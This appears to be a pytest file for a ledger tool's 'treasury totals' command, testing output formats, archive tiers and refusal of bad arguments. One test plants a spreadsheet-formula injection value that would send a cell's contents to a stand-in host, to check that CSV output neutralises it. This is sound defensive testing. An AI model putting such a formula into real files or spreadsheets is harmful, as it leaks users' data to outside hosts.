"""`treasury totals`, as a user types it."""

import csv
import io
import json
from decimal import Decimal

import pytest

from ledger.errors import ConfigError, DataError, MissingRowsError
from tests.archives import Archives, month_in_each_tier
from tests.cli.conftest import Treasury
from tests.tasks.archiving.ledger import COLD, HOT, ROWS, Ledger

RANGE = ("--from", "2024-01-01", "--to", "2026-12-31")
BAD = 2  # what the command line itself refuses


@pytest.fixture
def tiers(ledger: Ledger, archives: Archives) -> Ledger:
    """A month in each tier."""
    archives.begin(ledger.settings, month_in_each_tier)
    ledger.fill(HOT, rows=0, table=ledger.settings.table("vas_transactions"))
    return ledger


@pytest.mark.heavy("totals for programs are tested beside it")
def test_totals_for_people_are_a_table_and_say_where_they_are_from(tiers: Ledger, treasury_here: Treasury) -> None:
    for kept, read in ((0, 3), (3, 0)):
        answer = treasury_here("totals", *RANGE, "--group-by", "status", COLUMNS="120")
        assert answer.returncode == 0, answer.stderr
        assert "transactions, 2024-01-01 to 2026-12-31, UTC" in answer.stdout
        assert all(head in answer.stdout for head in ("status", "currency", "rows", "amount", "fee"))
        assert f"from kept totals of {kept} months, and from the rows of {read}" in answer.stderr
        assert treasury_here("totals", "--keep").returncode == 0


def test_totals_for_programs_are_equal_to_the_rows(tiers: Ledger, treasury_here: Treasury) -> None:
    tiers.sql("UPDATE transactions_partitioned SET description = 'changed' WHERE status = 'pending'")
    expected = {
        (row["day"], row["currency"]): (row["n"], row["total"])
        for row in tiers.ask(
            "SELECT strftime(created_at, '%Y-%m-%d') AS day, currency, count(*) AS n, sum(amount) AS total"
            " FROM transactions GROUP BY ALL"
        )
    }
    for _ in range(2):
        found = json.loads(treasury_here("totals", *RANGE, "--json").stdout)
        assert {(one["day"], one["currency"]): (one["rows"], Decimal(one["amount"])) for one in found} == expected
        lines = csv.DictReader(io.StringIO(treasury_here("totals", *RANGE, "--csv").stdout))
        assert {(one["day"], one["currency"]): (int(one["rows"]), Decimal(one["amount"])) for one in lines} == expected
        treasury_here("totals", "--keep")


def test_csv_has_no_text_that_a_spreadsheet_takes_for_a_formula(ledger: Ledger, treasury_here: Treasury) -> None:
    formula = '=HYPERLINK("http://x.example/?"&B2)'
    ledger.fill(HOT, client_id=formula)
    asked = ("totals", *RANGE, "--group-by", "client_id")
    (client,) = {one["client_id"] for one in csv.DictReader(io.StringIO(treasury_here(*asked, "--csv").stdout))}
    assert client == f"'{formula}"
    (client,) = {one["client_id"] for one in json.loads(treasury_here(*asked, "--json").stdout)}
    assert client == formula  # programs get the value


@pytest.mark.heavy("totals for programs are tested beside it")
def test_an_answer_without_rows_is_an_empty_list_and_a_head(tiers: Ledger, treasury_here: Treasury) -> None:
    days = ("--from", "2020-01-01", "--to", "2020-01-02")
    assert json.loads(treasury_here("totals", *days, "--json").stdout) == []
    assert treasury_here("totals", *days, "--csv").stdout == "day,currency,rows,amount,fee\n"
    assert treasury_here("totals", *days).returncode == 0


def test_what_is_kept_is_named_once(tiers: Ledger, treasury_here: Treasury) -> None:
    first, again = treasury_here("totals", "--keep"), treasury_here("totals", "--keep")
    assert (first.returncode, again.returncode, again.stdout) == (0, 0, "")
    lines = [line for line in first.stdout.splitlines() if line.startswith("transactions ")]
    assert len(lines) == 3
    assert all(line.endswith(f": kept, {ROWS} rows") for line in lines)


@pytest.mark.heavy("a month that somebody took away is tested beside it")
def test_a_month_that_cannot_be_kept_fails_the_command_by_name(tiers: Ledger, treasury_here: Treasury) -> None:
    key = tiers.catalogue(COLD)["object_key"]
    (tiers.store / key).write_bytes(bytes(one ^ 1 for one in (tiers.store / key).read_bytes()))
    answer = treasury_here("totals", "--keep")
    assert answer.returncode == DataError.exit_code
    assert f"transactions {COLD} in the archive: failed" in answer.stdout
    assert answer.stdout.count(f": kept, {ROWS} rows") == 2


@pytest.mark.sampled(2)
@pytest.mark.parametrize(
    ("arguments", "code", "message"),
    [
        (("--from", "2026-02-30"), ConfigError.exit_code, "must be a day of the calendar"),
        (("--from", "2026-03-02", "--to", "2026-03-01"), DataError.exit_code, "to: must not be before `from`"),
        (("--table", "nothing"), ConfigError.exit_code, "nothing"),
        (("--group-by", "supplier"), DataError.exit_code, "group_by: transactions has no column for supplier"),
        (("--json", "--csv"), ConfigError.exit_code, "give --json or --csv, and not both"),
        (("--group-by", "wallet_id"), BAD, "--group-by"),
        (("--zone", "Europe/Paris"), BAD, "--zone"),
    ],
    ids=["no_day", "order", "table", "column", "two_formats", "group", "zone"],
)
def test_what_is_not_right_is_refused_by_name(
    tiers: Ledger, treasury_here: Treasury, arguments: tuple[str, ...], code: int, message: str
) -> None:
    answer = treasury_here("totals", *arguments, COLUMNS="200")
    assert (answer.returncode, answer.stdout) == (code, "")
    assert message in answer.stderr


def test_a_month_that_somebody_took_away_is_refused_by_name(tiers: Ledger, treasury_here: Treasury) -> None:
    tiers.sql("ALTER TABLE transactions_partitioned DETACH PARTITION transactions_2026_10")
    answer = treasury_here("totals", *RANGE, "--json")
    assert (answer.returncode, answer.stdout) == (MissingRowsError.exit_code, "")
    assert f"transactions {HOT}" in answer.stderr
